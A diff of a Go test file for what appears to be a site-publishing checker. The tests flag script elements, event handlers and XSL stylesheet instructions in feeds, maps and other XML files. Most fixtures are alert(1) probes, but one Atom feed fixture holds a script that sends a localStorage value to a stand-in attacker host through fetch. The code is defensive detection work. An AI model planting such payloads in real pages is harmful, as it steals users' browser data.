@@ -159,15 +159,18 @@ func TestSVGThatRunsScriptIsAnError(t *testing.T) {
 	scriptsRefused(t, cases, "kuvat/kaavio.svg")
 }
 
-// TestStaticDocumentsThatRunScripts: an XHTML page, an XML file, an HTML
-// page and a compressed SVG image (.svgz) under static/ are documents a
-// browser runs scripts in when opened by their own address, as an SVG is,
-// and so is an XSLT stylesheet (.xsl, .xslt: before 2026-12-07 published
-// as it was), by which a browser turns an XML file into a page, so one
-// that holds a script is an error, at its line and column (an .svgz,
-// which no editor opens as it is, at the file); before 2026-12-07 only
-// .svg was looked into. An XML file's own elements (a data file's
-// <object>) are not a browser's, and an .svgz that unpacks past 16 MB (a
+// TestStaticDocumentsThatRunScripts: an XHTML page, an XML file (or one
+// of a name that hosts serve as XML, .atom, .rss, .kml, or of no type,
+// which begins with <?xml), an HTML page and a compressed SVG image
+// (.svgz) under static/ are documents a browser runs scripts in when
+// opened by their own address, as an SVG is, and so is an XSLT
+// stylesheet (.xsl, .xslt: before 2026-12-07 published as it was), by
+// which a browser turns an XML file into a page, so one that holds a
+// script is an error, at its line and column (an .svgz, which no editor
+// opens as it is, at the file); before 2026-12-07 only .svg was looked
+// into. An XML file's own elements (a data file's <object>) are not a
+// browser's, nor is anything of a file with no namespace or that does not
+// start as XML, and an .svgz that unpacks past 16 MB (a
 // gzip bomb, here 64 MB of zeros in 64 kB; one of 2 GB in 2 MB took check
 // 0.31 s and 64 MB of memory, by hand on 2026-12-07 10:41 UTC) is an error
 // that says so, unpacked no further than that.
@@ -228,11 +231,47 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 		{"liitteet/painike.xsl", xsl + "<xsl:template match=\"/\"><button>\n<xsl:attribute  name=\"onclick\">alert(1)</xsl:attribute></button></xsl:template></xsl:stylesheet>\n",
 			"content/static/liitteet/painike.xsl:3:17: tiedostossa on onclick,",
 			"content/static/liitteet/painike.xsl:3:17: the file holds onclick,"},
+		// A file of another name that hosts serve with an XML media type
+		// (a feed, a map, a formula: application/atom+xml, …+xml) is
+		// one a browser reads as XML, and runs its XHTML elements, as it
+		// does an .xml file's; before 2026-12-07 it was published as it
+		// was. Case in the name does not count.
+		{"uutiset.atom", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset</title>\n<entry><title>Uusi opas</title>\n<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Lue opas.</p>\n<script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script></div></content></entry></feed>\n",
+			"content/static/uutiset.atom:5:1: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan:",
+			"content/static/uutiset.atom:5:1: the file holds <script>, which a browser runs when the file is opened:"},
+		{"syotteet/tiedotteet.rss", "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Tiedotteet</title>\n<item><title>Hei</title><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></item></channel></rss>\n",
+			"content/static/syotteet/tiedotteet.rss:3:25: tiedostossa on <script>,",
+			"content/static/syotteet/tiedotteet.rss:3:25: the file holds <script>,"},
+		{"kartat/toimipisteet.kml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Document><Placemark><name>Toimipiste</name>\n<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></Placemark></Document></kml>\n",
+			"content/static/kartat/toimipisteet.kml:3:55: tiedostossa on onerror,",
+			"content/static/kartat/toimipisteet.kml:3:55: the file holds onerror,"},
+		{"kaavat/Kaava.MML", "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>x</mi>\n<h:iframe xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"/x.html\"/></math>\n",
+			"content/static/kaavat/Kaava.MML:2:1: tiedostossa on <iframe>,",
+			"content/static/kaavat/Kaava.MML:2:1: the file holds <iframe>,"},
+		// A file whose name no host gives a media type is served by some
+		// (Apache) with none, and a browser then takes one that begins
+		// with <?xml for XML.
+		{"kaaviot/verkosto.graphml", "<?xml version=\"1.0\"?>\n<graphml xmlns=\"http://graphml.graphdrawing.org/xmlns\"><graph id=\"G\">\n  <h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></graph></graphml>\n",
+			"content/static/kaaviot/verkosto.graphml:3:3: tiedostossa on <script>,",
+			"content/static/kaaviot/verkosto.graphml:3:3: the file holds <script>,"},
 		// What runs nothing: a drawing, a feed, a data file whose own
 		// vocabulary has an <object>, a page that only tells of scripts.
 		{"kuvat/kuvake.svgz", gz("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"), "", ""},
 		{"syote.xml", "<?xml version=\"1.0\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset &amp; tiedotteet</title><entry><title>&#228;l&#228; kirjoita &lt;script&gt;</title></entry></feed>\n", "", ""},
 		{"data/kohteet.xml", "<?xml version=\"1.0\"?>\n<kohteet><object id=\"1\"><handler>Sali</handler></object></kohteet>\n", "", ""},
+		{"syote.atom", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset &amp; tiedotteet</title><link href=\"https://helmet.example.fi/\"/><entry><title>Opas</title><content type=\"html\">&lt;p&gt;&lt;a href=\"/opas/\" onclick=\"x()\"&gt;Opas&lt;/a&gt;&lt;script&gt;&lt;/script&gt;&lt;/p&gt;</content><content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Lue <a href=\"https://thl.fi/\">THL</a>.</p></div></content></entry></feed>\n", "", ""},
+		{"kartat/lenkki.gpx", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\" ?>\n<gpx xmlns=\"http://www.topografix.com/GPX/1/1\" version=\"1.1\" creator=\"Garmin Connect\"><metadata><link href=\"connect.garmin.com\"><text>Garmin Connect</text></link></metadata><trk><name>Lenkki</name><desc>Reitti on kävelijöille: ei portaita</desc><trkseg><trkpt lat=\"60.1699\" lon=\"24.9384\"><ele>12.0</ele></trkpt></trkseg></trk></gpx>\n", "", ""},
+		// A feed of no namespace that Go's reader cannot take (a stray
+		// &), with a script of an embed in its text: none of its elements
+		// can be XHTML's.
+		{"vanha.rss", "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Uutiset & tiedotteet</title><item><description><![CDATA[<p>Video</p><script src=\"https://video.example/embed.js\"></script>]]></description></item></channel></rss>\n", "", ""},
+		// A file of an XML type's name that is no XML (a Microsoft
+		// Project plan, .mpp, some tables' XML type) is not read as XML
+		// by a browser either, whatever text it holds.
+		{"liitteet/suunnitelma.mpp", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00 Tehtava <script> javascript: onload=x", "", ""},
+		// A file of no type that does not begin with <?xml is no XML to
+		// a browser.
+		{"kaaviot/verkko.graphml", "<graphml xmlns=\"http://graphml.graphdrawing.org/xmlns\"><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></graphml>\n", "", ""},
 		{"liitteet/ohje.html", "<p>Osoite https://thl.fi/ &amp; <a href=\"https://thl.fi/?a=1&amp;b=2\" title=\"&quot;THL&quot;\">THL</a></p>\n", "", ""},
 		{"liitteet/ohje.xhtml", xhtml + "<p>Älä lisää &lt;script&gt;-elementtiä.</p><a href=\"https://thl.fi/\">THL</a></body></html>\n", "", ""},
 		// A stylesheet that writes a table and strips the scripts of
@@ -243,10 +282,12 @@ func TestStaticDocumentsThatRunScripts(t *testing.T) {
 }
 
 // TestXMLThatNamesAnXSLStylesheetIsAnError: an XML document under static/
-// (an XML file, an SVG image, an XHTML page, an .svgz) that names an XSL
-// stylesheet in <?xml-stylesheet?> is turned by a browser into the page
-// the stylesheet makes of it, scripts and all, which no check can tell
-// beforehand; before 2026-12-07 it was published as it was. It is an
+// (an XML file, a file of another XML type's name or one a browser takes
+// for XML by its first bytes, an SVG image, an XHTML page, an .svgz) that
+// names an XSL stylesheet in <?xml-stylesheet?> is turned by a browser
+// into the page the stylesheet makes of it, scripts and all, which no
+// check can tell beforehand; before 2026-12-07 it was published as it
+// was. It is an
 // error at the instruction, whatever the stylesheet holds; one naming a
 // CSS stylesheet, or only in a comment, is not.
 func TestXMLThatNamesAnXSLStylesheetIsAnError(t *testing.T) {
@@ -276,6 +317,15 @@ func TestXMLThatNamesAnXSLStylesheetIsAnError(t *testing.T) {
 		{"kuvat/pakattu.svgz", svgz.String(),
 			"content/static/kuvat/pakattu.svgz: tiedosto nimeää XSL-tyylisivun \"muunnos.xsl\"",
 			"content/static/kuvat/pakattu.svgz: the file names the XSL stylesheet \"muunnos.xsl\""},
+		// A feed styled for reading in a browser, as feeds often are,
+		// and a file of a name no host knows, which a browser takes for
+		// XML by its <?xml (before 2026-12-07 both were published).
+		{"syote.rss", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"/tyylit/syote.xsl\"?>\n<rss version=\"2.0\"><channel><title>Uutiset</title></channel></rss>\n",
+			"content/static/syote.rss:2:1: tiedosto nimeää XSL-tyylisivun \"/tyylit/syote.xsl\"",
+			"content/static/syote.rss:2:1: the file names the XSL stylesheet \"/tyylit/syote.xsl\""},
+		{"data/mittaukset", "<?xml-stylesheet href=\"nayta.xsl\"?>\n<mittaukset/>\n",
+			"content/static/data/mittaukset:1:1: tiedosto nimeää XSL-tyylisivun \"nayta.xsl\"",
+			"content/static/data/mittaukset:1:1: the file names the XSL stylesheet \"nayta.xsl\""},
 		// The stylesheet holds nothing that runs.
 		{"liitteet/siisti.xsl", "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><table><xsl:for-each select=\"//rivi\"><tr><td><xsl:value-of select=\".\"/></td></tr></xsl:for-each></table></xsl:template></xsl:stylesheet>\n", "", ""},
 		// CSS, with its type or by its address, and an instruction in a
